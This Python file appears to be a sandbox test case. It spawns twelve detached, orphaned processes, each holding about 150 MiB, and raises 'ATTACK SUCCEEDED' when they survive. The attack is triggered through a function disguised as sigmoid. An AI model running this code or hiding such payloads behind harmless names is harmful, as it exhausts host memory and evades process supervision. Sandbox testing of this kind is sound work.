"""Goal: fill memory with processes that are nobody's children any more.

Without a sandbox: unsafe
"""

import os
import time

ORPHANS, MIB = 12, 150


def orphan():
    if os.fork() == 0:
        if os.fork() == 0:
            os.setsid()
            kept = os.urandom(1 << 20) * MIB
            open(f"orphan-{os.getpid()}", "w").close()
            time.sleep(60)
            os._exit(len(kept) and 0)
        os._exit(0)
    os.wait()


def attack():
    for _ in range(ORPHANS):
        orphan()
    time.sleep(2)
    if len([name for name in os.listdir() if name.startswith("orphan-")]) == ORPHANS:
        raise RuntimeError(f"ATTACK SUCCEEDED: {ORPHANS * MIB} MiB in use")


# Once a worker, so that no more is used than is said.
ONCE = iter([attack])


def sigmoid(x):
    next(ONCE)()
